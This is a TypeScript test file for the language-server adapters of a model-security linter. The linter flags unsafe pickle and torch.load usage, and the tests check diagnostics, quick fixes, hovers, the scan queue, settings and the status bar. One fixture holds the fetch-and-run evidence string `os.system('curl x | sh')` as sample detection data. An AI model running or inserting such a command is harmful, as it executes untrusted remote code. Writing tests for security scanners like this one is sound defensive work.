// The LSP adapters as pure functions: finding -> diagnostic, code actions, hovers, the scan
// queue, settings normalisation and the status bar text.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { DiagnosticSeverity, type CodeActionParams, type Diagnostic } from 'vscode-languageserver';
import { createFinding, type Finding, type Location } from '../../server/src/core/findings';
import { DANGEROUS_IMPORT } from '../../server/src/core/rules/pickleContent';
import { TORCH_LOAD_WITHOUT_WEIGHTS_ONLY } from '../../server/src/core/rules/codeDeserialization';
import { ruleDocsUrl } from '../../server/src/core/rules/docs';
import { diagnosticMessage, findingToDiagnostic, lspSeverity, placeLabel } from '../../server/src/lsp/diagnostics';
import { codeActionsFor, FIX_ALL_TITLE } from '../../server/src/lsp/codeActions';
import { hoverFor } from '../../server/src/lsp/hover';
import { ScanQueue } from '../../server/src/lsp/scanQueue';
import { fileFilter, walkOptions } from '../../server/src/lsp/fileFilter';
import { configDiagnostics } from '../../server/src/lsp/projectConfigs';
import { DEFAULT_SETTINGS, maxFileBytes, normalizeSettings } from '../../server/src/protocol/settings';
import { emptyCounts } from '../../server/src/protocol/messages';
import { statusText } from '../../client/src/statusText';

const URI = 'file:///w/a.py';
const range = (l: number, c1: number, c2: number) => ({ start: { line: l, character: c1 }, end: { line: l, character: c2 } });

function torchLoad(line: number, end: number): Finding {
  return createFinding(TORCH_LOAD_WITHOUT_WEIGHTS_ONLY, {
    message: '`torch.load` without `weights_only=True`',
    location: { kind: 'text', range: range(line, 4, end) },
    evidence: 'torch.load(p)',
    fix: { title: 'Add weights_only=True', edits: [{ range: range(line, end - 1, end - 1), newText: ', weights_only=True' }] },
  });
}

function pickleAt(location: Location, evidence?: string): Finding {
  return createFinding(DANGEROUS_IMPORT, { message: 'Imports os.system.', location, ...(evidence ? { evidence } : {}) });
}

function params(diagnostics: Diagnostic[], only?: string[]): CodeActionParams {
  return { textDocument: { uri: URI }, range: range(0, 0, 0), context: { diagnostics, ...(only ? { only } : {}) } };
}

describe('findingToDiagnostic', () => {
  it('maps severities: critical/high Error, medium Warning, low Information, info Hint', () => {
    assert.deepEqual(
      (['critical', 'high', 'medium', 'low', 'info'] as const).map(lspSeverity),
      [DiagnosticSeverity.Error, DiagnosticSeverity.Error, DiagnosticSeverity.Warning, DiagnosticSeverity.Information, DiagnosticSeverity.Hint],
    );
  });

  it('keeps text ranges, sets code, docs link, source and the fix in data', () => {
    const d = findingToDiagnostic(torchLoad(2, 17));
    assert.deepEqual(d.range, range(2, 4, 17));
    assert.equal(d.code, 'MSL101');
    assert.deepEqual(d.codeDescription, { href: ruleDocsUrl('MSL101') });
    assert.equal(d.source, 'Model Security Lint');
    assert.equal(d.message, '`torch.load` without `weights_only=True`', 'text findings show no evidence (the code is right there)');
    assert.deepEqual(d.data, {
      ruleId: 'MSL101',
      severity: 'high',
      fix: { title: 'Add weights_only=True', edits: [{ range: range(2, 16, 16), newText: ', weights_only=True' }] },
    });
  });

  it('puts binary findings at 0:0 with the place and the evidence in the message', () => {
    const d = findingToDiagnostic(pickleAt({ kind: 'bytes', offset: 42, members: ['archive/data.pkl'], fileOffset: 0x1234 }, "os.system('curl x | sh')"));
    assert.deepEqual(d.range, range(0, 0, 0));
    assert.equal(d.message, "[archive/data.pkl @ 0x2a (file 0x1234)] Imports os.system.\nEvidence: os.system('curl x | sh')");
    assert.equal(d.severity, DiagnosticSeverity.Error);
  });

  it('labels every location kind', () => {
    assert.equal(placeLabel({ kind: 'bytes', offset: 255 }), '@ 0xff');
    assert.equal(placeLabel({ kind: 'bytes', offset: 1, members: ['a.zip', 'b.pkl'] }), 'a.zip > b.pkl @ 0x1');
    assert.equal(placeLabel({ kind: 'pointer', pointer: '/metadata/x', members: ['m.keras'] }), 'm.keras /metadata/x');
    assert.equal(placeLabel({ kind: 'file' }), '');
    assert.equal(diagnosticMessage(pickleAt({ kind: 'file' })), 'Imports os.system.');
  });

  it('clips long multi-line evidence to one line', () => {
    const m = diagnosticMessage(pickleAt({ kind: 'bytes', offset: 0 }, `line1\n${'x'.repeat(500)}`));
    const evidence = m.split('\nEvidence: ')[1]!;
    assert.equal(evidence.length, 240);
    assert.ok(evidence.startsWith('line1 ⏎ xxx') && evidence.endsWith('…'));
  });
});

describe('codeActionsFor', () => {
  const a = findingToDiagnostic(torchLoad(1, 17));
  const b = findingToDiagnostic(torchLoad(3, 20));
  const noFix = findingToDiagnostic(pickleAt({ kind: 'bytes', offset: 0 }));

  it('turns each fixable diagnostic in the context into a preferred quick fix', () => {
    const actions = codeActionsFor(params([a, noFix], ['quickfix']), [a, b]);
    assert.deepEqual(actions, [
      { title: 'Add weights_only=True', kind: 'quickfix', diagnostics: [a], isPreferred: true, edit: { changes: { [URI]: [{ range: range(1, 16, 16), newText: ', weights_only=True' }] } } },
    ]);
  });

  it('fix-all collects every published fix, only when asked for source actions', () => {
    const [fixAll] = codeActionsFor(params([], ['source.fixAll']), [b, a, noFix]);
    assert.equal(fixAll!.title, FIX_ALL_TITLE);
    assert.equal(fixAll!.kind, 'source.fixAll.msl');
    assert.deepEqual(fixAll!.edit!.changes![URI]!.map((e) => e.range.start.line), [1, 3]);
    assert.deepEqual(codeActionsFor(params([a], ['quickfix']), [a, b]).map((x) => x.kind), ['quickfix']);
    assert.deepEqual(codeActionsFor(params([a], ['source']), [a, b]).map((x) => x.kind), ['source.fixAll.msl']);
    assert.deepEqual(codeActionsFor(params([a], ['refactor']), [a, b]), []);
    assert.deepEqual(codeActionsFor(params([a]), [a, b]).map((x) => x.kind), ['quickfix', 'source.fixAll.msl']);
    assert.deepEqual(codeActionsFor(params([], ['source.fixAll.msl']), [noFix]), []);
  });

  it('fix-all drops whole fixes that overlap an earlier one (LSP forbids overlaps)', () => {
    const withFix = (line: number, from: number, to: number, newText: string) => {
      const d = findingToDiagnostic(torchLoad(line, 17));
      (d.data as { fix: unknown }).fix = { title: 't', edits: [{ range: range(line, from, to), newText }, { range: range(line + 5, from, from), newText: `#${newText}` }] };
      return d;
    };
    const [fixAll] = codeActionsFor(params([], ['source.fixAll']), [withFix(0, 5, 9, 'b'), withFix(0, 0, 6, 'a'), withFix(0, 9, 9, 'c'), withFix(1, 0, 0, 'd')]);
    assert.deepEqual(fixAll!.edit!.changes![URI]!.map((e) => `${e.range.start.line}:${e.range.start.character}-${e.range.end.character} ${e.newText}`), [
      '0:0-6 a', '5:0-0 #a', '0:9-9 c', '5:9-9 #c', '1:0-0 d', '6:0-0 #d',
    ]);
  });
});

describe('hoverFor', () => {
  const d = findingToDiagnostic(torchLoad(1, 17));
  it('explains the rule under the cursor (range inclusive) and nothing elsewhere', () => {
    const h = hoverFor({ line: 1, character: 17 }, [d])!;
    const value = (h.contents as { value: string }).value;
    assert.deepEqual(h.range, d.range);
    assert.ok(value.startsWith('**MSL101: `torch.load` without `weights_only=True`** · high\n\n`torch.load` unpickles the file'));
    assert.ok(value.includes('**Safe alternative:** Pass `weights_only=True`'));
    assert.ok(value.endsWith(`[MSL101 documentation](${ruleDocsUrl('MSL101')})`));
    assert.equal(hoverFor({ line: 1, character: 18 }, [d]), null);
    assert.equal(hoverFor({ line: 1, character: 5 }, [{ ...d, source: 'other' }]), null);
  });

  it('shows a rule once even when several of its diagnostics overlap', () => {
    const value = (hoverFor({ line: 1, character: 6 }, [d, d])!.contents as { value: string }).value;
    assert.equal(value.split('**MSL101:').length, 2);
  });
});

describe('ScanQueue', () => {
  it('runs one job at a time in order and coalesces repeated requests for a key', async () => {
    const runs: string[] = [];
    let active = 0;
    let maxActive = 0;
    const gates = new Map<string, () => void>();
    const q = new ScanQueue<{ explicit: boolean }, string>(
      async (key, o) => {
        active++;
        maxActive = Math.max(maxActive, active);
        runs.push(`${key}:${o.explicit}`);
        await new Promise<void>((r) => gates.set(key, r));
        active--;
        return `done ${key}`;
      },
      (x, y) => ({ explicit: x.explicit || y.explicit }),
      () => assert.fail('no errors expected'),
    );
    const p1 = q.enqueue('a', { explicit: false });
    const p2 = q.enqueue('b', { explicit: false });
    const p3 = q.enqueue('b', { explicit: true }); // coalesced with p2, explicit wins
    const p4 = q.enqueue('a', { explicit: false }); // 'a' is running: one re-run queued
    assert.equal(p2, p3);
    const release = async (key: string) => {
      while (!gates.has(key)) await new Promise((r) => setImmediate(r));
      const g = gates.get(key)!;
      gates.delete(key);
      g();
    };
    await release('a');
    assert.equal(await p1, 'done a');
    await release('b');
    await release('a');
    assert.deepEqual(await Promise.all([p2, p3, p4]), ['done b', 'done b', 'done a']);
    assert.deepEqual(runs, ['a:false', 'b:true', 'a:false']);
    assert.equal(maxActive, 1);
  });

  it('drop resolves a queued request with undefined, and a failing job does not stop the queue', async () => {
    const errors: string[] = [];
    let hold!: () => void;
    const q = new ScanQueue<null, string>(
      async (key) => {
        if (key === 'first') await new Promise<void>((r) => (hold = r));
        if (key === 'bad') throw new Error('boom');
        return key;
      },
      () => null,
      (key, e) => errors.push(`${key}: ${(e as Error).message}`),
    );
    const first = q.enqueue('first', null);
    const dropped = q.enqueue('gone', null);
    const bad = q.enqueue('bad', null);
    const last = q.enqueue('last', null);
    q.drop('gone');
    while (!hold) await new Promise((r) => setImmediate(r));
    hold();
    assert.deepEqual(await Promise.all([first, dropped, bad, last]), ['first', undefined, undefined, 'last']);
    assert.deepEqual(errors, ['bad: boom']);
  });
});

describe('settings and filters', () => {
  it('normalizeSettings falls back per field on missing or mistyped values', () => {
    assert.deepEqual(normalizeSettings(undefined), { ...DEFAULT_SETTINGS, include: [], exclude: [...DEFAULT_SETTINGS.exclude], trace: { server: 'off' } });
    const s = normalizeSettings({ include: ['m/**'], exclude: 'nope', maxFileSizeMB: -3, scanOnStartup: 'yes', trace: { server: 'verbose' } });
    assert.deepEqual(s.include, ['m/**']);
    assert.deepEqual(s.exclude, DEFAULT_SETTINGS.exclude);
    assert.equal(s.maxFileSizeMB, 2048);
    assert.equal(s.scanOnStartup, true);
    assert.equal(s.trace.server, 'verbose');
    assert.equal(maxFileBytes({ ...s, maxFileSizeMB: 1.5 }), 1572864);
    assert.equal(maxFileBytes({ ...s, maxFileSizeMB: 0 }), undefined);
  });

  it('fileFilter: include (engine default when empty), settings exclude plus project exclude', () => {
    const settings = normalizeSettings({ exclude: ['**/node_modules/**'] });
    const f = fileFilter(walkOptions(settings, { exclude: ['vendor/**'] }));
    assert.equal(f('models/a.pkl'), true);
    assert.equal(f('A.PT'), true);
    assert.equal(f('train.py'), true);
    assert.equal(f('notes.txt'), false);
    assert.equal(f('x/node_modules/a.pkl'), false);
    assert.equal(f('vendor/a.pkl'), false);
    assert.equal(f('../outside.pkl'), false);
    assert.equal(fileFilter(walkOptions(normalizeSettings({ include: ['models/*.bin'] }), {}))('models/w.bin'), true);
    assert.equal(fileFilter(walkOptions(normalizeSettings({ include: ['models/*.bin'] }), {}))('w.pkl'), false);
  });

  it('config problems become warnings at the top of msl.config.json, without the path prefix', () => {
    const ds = configDiagnostics({ file: '/w/msl.config.json', config: {}, problems: ['/w/msl.config.json: unknown key "x"'] });
    assert.deepEqual(ds, [{ range: range(0, 0, 0), severity: DiagnosticSeverity.Warning, source: 'Model Security Lint', message: 'unknown key "x"' }]);
  });
});

describe('status bar text', () => {
  it('counts critical + high, colours by the worst, and says when scanning', () => {
    const counts = { ...emptyCounts(), critical: 1, high: 2, info: 7 };
    assert.deepEqual(statusText({ counts, filesWithFindings: 3, scanning: false }), {
      text: '$(shield) 3',
      tooltip: 'Model Security Lint: 1 critical, 2 high, 0 medium, 0 low, 7 info\n3 files with findings\nClick to open the Problems view.',
      tone: 'error',
    });
    assert.equal(statusText({ counts: { ...emptyCounts(), high: 1 }, filesWithFindings: 1, scanning: true }).text, '$(sync~spin) 1');
    assert.equal(statusText({ counts: { ...emptyCounts(), high: 1 }, filesWithFindings: 1, scanning: false }).tone, 'warning');
    assert.deepEqual(statusText({ counts: emptyCounts(), filesWithFindings: 0, scanning: false }).text, '$(pass) 0');
  });
});
